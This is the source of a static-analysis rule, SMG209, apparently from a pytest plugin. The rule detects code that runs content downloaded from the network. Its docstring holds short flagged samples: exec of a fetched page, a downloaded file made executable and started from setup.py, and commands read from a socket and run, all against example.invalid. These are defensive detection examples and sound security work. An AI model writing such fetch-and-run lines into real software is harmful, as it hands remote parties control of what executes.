"""SMG209: what was downloaded is run."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import TYPE_CHECKING

from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, python_rule
from pytest_selfmod_guard.rules.danger import _processes, _runners
from pytest_selfmod_guard.rules.danger._foreign import HIDDEN, NETWORK, REQUEST, kinds, kinds_of
from pytest_selfmod_guard.rules.danger._naming import names_of
from pytest_selfmod_guard.rules.danger._written import Written, written

if TYPE_CHECKING:
    import libcst as cst

    from pytest_selfmod_guard.syntax import Call, Python

_LOADERS = re.compile(
    r"ctypes\.(?:CDLL|WinDLL|PyDLL|OleDLL|(?:cdll|windll)\.LoadLibrary)|cffi\.FFI\.dlopen"
)
_LOADING = ("get_source", "get_code", "source_to_code", "exec_module", "load_module")
_CHMOD = frozenset(("os.chmod", "*.chmod", "pathlib.Path.chmod", "os.fchmod"))
_CHECKS = ("hashlib.", "hmac.compare_digest", "*.verify")
_EXECUTABLE = 0o111


@python_rule(
    "SMG209",
    risk=Risk.CRITICAL,
    hint="pin what is needed as a dependency with its hash, and run only that; "
    "if a file must be fetched, compare its SHA-256 with a constant before anything runs it",
    triggers=(*_runners.WORDS, *_processes.WORDS, b"chmod", *(name.encode() for name in _LOADING)),
    supersedes=("SMG223", "SMG201", "SMG204", "SMG211", "B102", "B307", "B602", "B603", "B605"),
)
def runs_download(python: Python) -> Iterable[Sighting]:
    """
    Code or a program that comes from the network is run.

    Whoever answers decides what runs, today and tomorrow. It is followed from
    the network into `exec`, into the command of a process, and through a file
    that is written and then started, loaded or made executable. A request that
    decides it counts likewise. Where the file's hash is computed in the same
    function it is only a warning; downloads that are only read are silent.

    Flagged: text of a page [critical]
        === shop/__init__.py
          import requests
        + exec(requests.get("https://example.invalid/a").text)

    Flagged: through a file [critical]
        === setup.py
          import os
          import subprocess
          from urllib.request import urlopen
        + with open("/tmp/helper", "wb") as file:
        +     file.write(urlopen("https://example.invalid/helper").read())
        + os.chmod("/tmp/helper", 0o755)
        + subprocess.Popen(["/tmp/helper"])

    Flagged: what a server says [critical]
        === shop/agent.py
          import socket, subprocess
        + link = socket.create_connection(("example.invalid", 443))
        + subprocess.run(link.recv(1024).decode().split())

    Flagged: its hash is looked at [medium]
        === tools/fetch.py
          import hashlib, subprocess
          from urllib.request import urlretrieve
        + def fetch():
        +     urlretrieve(URL, "tool")
        +     assert hashlib.sha256(open("tool", "rb").read()).hexdigest() == PINNED
        +     subprocess.run(["./tool"])

    Allowed: downloaded data
        === shop/rates.py
          import subprocess
          from urllib.request import urlretrieve
        + urlretrieve("https://example.invalid/rates.tar", "rates.tar")
        + subprocess.run(["tar", "-xf", "rates.tar"])
    """
    yield from _straight(python)
    yield from _loaded(python)
    files = written(python)
    if not files:
        return
    checked = {c.scope for c in python.calls if any(n.startswith(_CHECKS) for n in c.names)}
    for call, nodes in _started(python):
        names = names_of(python, *nodes)
        for file in files:
            if file.names.meets(names):
                yield _through(python, call, file, is_checked=file.scope in checked)
                break


def _straight(python: Python) -> Iterator[Sighting]:
    for run in _runners.runs(python):
        if run.kind != "file":
            yield from _foreign(python, run.call, run.name, (run.what,))
    for process in _processes.processes(python):
        yield from _foreign(python, process.call, process.name, _processes.program(python, process))


def _loaded(python: Python) -> Iterator[Sighting]:
    """Give where a loader of modules gets its source from the network."""
    for call in python.calls:
        if call.scope.rpartition(".")[2] in _LOADING and NETWORK in kinds(call.names):
            message = "a loader of modules gets their code from the network"
            yield Sighting(python.line(call.node), message, python.code(call.node), call.scope)


def _foreign(
    python: Python, call: Call, name: str, nodes: tuple[cst.BaseExpression, ...]
) -> Iterator[Sighting]:
    found = kinds_of(python, *nodes)
    origin = NETWORK if NETWORK in found else REQUEST if REQUEST in found else ""
    if origin:
        short = name.removeprefix("builtins.")
        message = f"{origin} decides what {short} runs"
        risk = None if origin == NETWORK else Risk.HIGH
        yield Sighting(
            python.line(call.node), message, python.code(call.node), call.scope, risk=risk
        )


def _started(python: Python) -> Iterator[tuple[Call, tuple[cst.BaseExpression, ...]]]:
    """Whatever starts, loads or readies a file."""
    for run in _runners.runs(python):
        yield run.call, (run.what,)
    for process in _processes.processes(python):
        yield process.call, _processes.program(python, process)
    for call in python.calls:
        first = call.arg(python, 0)
        if first is None:
            continue
        if any(_LOADERS.fullmatch(name) for name in call.names):
            yield call, (first,)
        elif call.names & _CHMOD:
            yield from _made_executable(python, call, first)


def _made_executable(
    python: Python, call: Call, first: cst.BaseExpression
) -> Iterator[tuple[Call, tuple[cst.BaseExpression, ...]]]:
    owner = getattr(call.node.func, "value", None)
    is_method = "*.chmod" in call.names
    mode = first if is_method else call.arg(python, 1, "mode")
    path = owner if is_method else first
    if mode is None or path is None:
        return
    value = python.fold(mode)
    words = python.code(mode)
    if (isinstance(value, int) and value & _EXECUTABLE) or "S_IX" in words or "S_IEXEC" in words:
        yield call, (path,)


def _through(python: Python, call: Call, file: Written, *, is_checked: bool) -> Sighting:
    what = "comes from the network" if file.origin != HIDDEN else "was encoded"
    return Sighting(
        python.line(call.node),
        f"a file whose content {what} is run, or made ready to be",
        python.code(call.node),
        call.scope,
        risk=Risk.MEDIUM if is_checked else None,
    )
